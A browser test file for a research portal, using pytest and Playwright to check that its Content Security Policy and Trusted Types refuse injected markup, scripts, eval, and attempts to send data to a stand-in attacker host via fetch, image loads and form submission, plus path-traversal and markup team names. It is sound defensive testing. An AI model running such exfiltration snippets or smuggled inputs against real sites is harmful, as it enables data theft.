# Copyright: Contributors to the mlplatform.studio project
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The portal passes every check, and whatever gets into it can do nothing."""

from __future__ import annotations

import pytest
from playwright.sync_api import Error, expect

from tests.browser.checks import CHECKS, EVIL

# A browser says in the console what a policy of ours kept it from doing.
REFUSED_BY_POLICY = r"Content Security Policy|Trusted(HTML|Script|Type)"


@pytest.mark.parametrize("check", CHECKS, ids=lambda check: check.__name__)
def test_the_portal_is_safe(portal, watch, check):
    watch.hosts.add("evil.example")
    watch.expected_console.append(r"^Framing .* violates .*frame-ancestors|frame-ancestors 'none'")
    check(portal)


def test_a_team_that_cannot_be_is_never_asked_for(portal):
    for team in ["../team1", "team1/../../x", "https://evil.example", "<b>", "TEAM1", "team1\n", "a" * 25, ""]:
        portal.arrive("ada", team=team)
        portal.expect_state("There is no such team")
    portal.button("Sign in and choose a team").click()
    portal.expect_state("Choose your team")
    assert portal.asked_for_studio() == 0


def test_groups_that_are_no_teams_are_not_offered(portal):
    """A group named "x,team1" is not team1, and one whose name is markup is nothing."""
    portal.arrive("mallory", team="team1")
    portal.expect_state("This is not one of your teams")
    assert portal.asked_for_studio() == 0
    portal.button("Check again").click()
    portal.expect_state("This is not one of your teams")


def test_an_error_of_the_hosted_pages_is_not_shown(portal):
    """What stands in the address is never shown: anybody can write a link."""
    portal.open()
    portal.hosted_ui.expect_form()
    state = portal.authorization()["state"]
    portal.open(error="access_denied", error_description="call 555-0100", state=state)
    portal.expect_state("You were not signed in")
    expect(portal.page.locator("body")).not_to_contain_text("555-0100")


@pytest.fixture
def chooser(portal, watch):
    """The portal with somebody signed in, where a script got in."""
    watch.expected_console.append(REFUSED_BY_POLICY)
    portal.arrive("ada")
    portal.expect_state("Choose your team")
    return portal.page


def test_text_cannot_become_markup(chooser):
    with pytest.raises(Error, match="TrustedHTML"):
        chooser.evaluate("document.body.innerHTML = '<b>x</b>'")


def test_a_script_in_the_page_does_not_run(chooser, watch):
    chooser.evaluate(
        """() => {
            const script = document.createElement("script");
            try { script.textContent = "document.title = 'ran'"; } catch {}
            document.body.append(script);
        }"""
    )
    expect(chooser).to_have_title("Choose your team - Example Research")
    assert watch.console


def test_text_cannot_become_code(chooser):
    answer = chooser.evaluate(
        """() => new Promise((done) => setTimeout(() => {
            try { window.eval("1 + 1"); done("ran"); } catch (error) { done("refused"); }
        }))"""
    )
    assert answer == "refused"


def test_nobody_else_can_be_told(chooser, watch):
    watch.hosts.add("evil.example")  # what the browser refuses to send is counted too
    assert chooser.evaluate(f"fetch('{EVIL}').then(() => 'told', () => 'refused')") == "refused"
    assert (
        chooser.evaluate(
            f"""() => new Promise((done) => {{
            const image = new Image();
            image.onload = () => done("told");
            image.onerror = () => done("refused");
            image.src = "{EVIL}?secret";
        }})"""
        )
        == "refused"
    )
    assert watch.console


def test_a_form_leads_nowhere(chooser, watch):
    chooser.evaluate(
        f"""() => {{
            const form = document.createElement("form");
            form.action = "{EVIL}";
            document.body.append(form);
            form.submit();
        }}"""
    )
    chooser.wait_for_timeout(300)
    assert chooser.url.endswith("/prod/portal")
    assert watch.console
